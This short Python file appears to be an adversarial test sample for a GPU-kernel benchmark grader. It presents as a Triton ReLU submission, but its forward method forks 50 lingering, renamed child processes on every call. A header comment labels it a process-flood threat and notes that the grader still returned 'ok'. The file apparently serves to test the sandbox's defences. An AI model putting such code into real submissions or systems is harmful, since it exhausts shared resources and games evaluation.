# Threat: a process flood. Every call forks 50 processes that sleep on; over a verdict's calls that is hundreds of
# processes (254 were counted on a CPU machine with no process limit, and the verdict was still `ok`).
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def _linger():
    import ctypes

    ctypes.CDLL(None).prctl(15, b"kbrlleakb", 0, 0, 0)
    time.sleep(600)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        import posix

        for _ in range(50):
            if posix.fork() == 0:
                _linger()
                posix._exit(0)
        y = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 1024),)](x, y, n, BLOCK=1024)
        return y
